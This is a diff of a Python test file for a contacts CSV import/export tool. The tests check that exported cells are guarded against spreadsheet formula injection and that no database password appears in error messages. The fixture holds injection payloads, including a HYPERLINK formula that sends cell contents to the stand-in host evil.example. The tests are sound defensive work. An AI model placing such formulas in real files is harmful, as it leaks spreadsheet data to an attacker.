@@ -4,6 +4,8 @@ and rules that use it, with the decision service in process and the facade as a 
 from __future__ import annotations
 
 import asyncio
+import csv
+import dataclasses
 import io
 import sqlite3
 import time
@@ -47,6 +49,58 @@ def test_import_export_round_trip(tmp_path):
         "number,country,name,tier,language,preferred_agents,skills,contact_id,account"
     )
     assert f"{ADA},GB,Ada Lovelace,vip,english,alice,premium,acme-ada,ACME-001" in exported
+
+
+# What a spreadsheet would run (OWASP "CSV injection"), and what only an apostrophe keeps from
+# looking like it: every value must come back from export -> import as it was.
+HOSTILE = Contact(
+    name='=HYPERLINK("http://evil.example/?"&A1,"Ada")',
+    tier="@SUM(1+1)",
+    language="+1+1",
+    preferred_agents=("-2+3", "alice"),
+    skills=("\t=1",),
+    attributes={"=cmd": "-2+3", "note": "'=already guarded", "plain": "'Tis", "mobile": "+447400"},
+)
+
+
+def test_export_neutralises_cells_a_spreadsheet_would_run():
+    """Export wrote `=HYPERLINK(...)`, `@SUM(...)`, `+1+1`, `-2+3` and a header `=cmd` as they
+    were: opened in a spreadsheet, each is a formula. A leading `'` makes each text; a phone
+    number (`+` and digits) is left as it is: it is a number to a spreadsheet, nothing runs."""
+    written = io.StringIO()
+    write_contacts([ContactRecord("ada", ("+447400654321",), HOSTILE)], written)
+    rows = list(csv.reader(io.StringIO(written.getvalue())))
+    cells = [cell for row in rows for cell in row]
+    assert "'=cmd" in rows[0]
+    assert rows[1][0] == "+447400654321"
+    assert [c for c in cells[len(rows[0]) + 1 :] if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == [
+        "+447400"
+    ]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Ada")' in cells
+    assert "''=already guarded" in cells  # so import can tell its own guard from the value
+    assert "'Tis" in cells  # not a formula, not touched
+
+
+def test_what_export_guards_imports_back_as_it_was(tmp_path):
+    db = tmp_path / "contacts.sqlite3"
+    written = io.StringIO()
+    write_contacts([ContactRecord("ada", ("+447400654321",), HOSTILE)], written)
+    (read,) = read_contacts(io.StringIO(written.getvalue()), "export.csv")
+    assert read.contact == dataclasses.replace(HOSTILE, skills=("=1",))  # cells are trimmed
+    exported = tmp_path / "export.csv"
+    exported.write_text(written.getvalue())
+    assert contacts_cli("import", "--contacts", str(db), str(exported)).returncode == 0
+    again = contacts_cli("export", "--contacts", str(db)).stdout
+    assert again.replace("'\t=1", "'=1") == written.getvalue().replace("'\t=1", "'=1")
+
+
+def test_a_cell_guarded_by_hand_imports_without_its_guard():
+    """A CRM export that guards its formulas the same way means the text after the `'`."""
+    text = "number,country,name,'=cmd\n'+447400111111,,'=SUM(1),'@x\n"
+    (read,) = read_contacts(io.StringIO(text), "crm.csv")
+    assert read.numbers == ("+447400111111",)
+    assert read.contact.name == "=SUM(1)"
+    assert read.contact.attributes == {"=cmd": "@x"}
 
 
 def test_one_contact_several_numbers_and_national_or_international():
@@ -133,7 +187,9 @@ def test_cli_errors_for_directories_it_cannot_open_are_one_line(tmp_path):
     assert newer.returncode == 1
     assert "schema version 99 is newer" in newer.stderr
     url = "postgresql://router:s3cret@127.0.0.1:1/contacts"  # nothing listens on port 1
-    postgres = contacts_cli("import", "--contacts", url, str(EXAMPLES / "contacts.csv"))
+    postgres = contacts_cli(
+        "import", str(EXAMPLES / "contacts.csv"), env={"DECISION_CONTACTS": url}
+    )
     assert postgres.returncode == 1
     assert postgres.stderr.count("\n") == 1
     assert postgres.stderr.startswith("postgresql://router@127.0.0.1:1/contacts: ")
@@ -143,8 +199,8 @@ def test_cli_errors_for_directories_it_cannot_open_are_one_line(tmp_path):
 @pytest.mark.parametrize("password", ["S3c/retPW", "S3c#retPW", "S3c?retPW", "S3c@retPW"])
 def test_no_password_is_ever_printed_whatever_it_holds(password):
     url = f"postgresql://router:{password}@127.0.0.1:1/contacts?application_name=x"
-    for command in (("export", "--contacts", url), ("import", "--contacts", url, "x.csv")):
-        result = contacts_cli(*command)
+    for command in (("export",), ("import", "x.csv")):
+        result = contacts_cli(*command, env={"DECISION_CONTACTS": url})
         assert result.returncode != 0
         assert result.stderr.count("\n") == 1
         for piece in ("S3c", "retPW"):
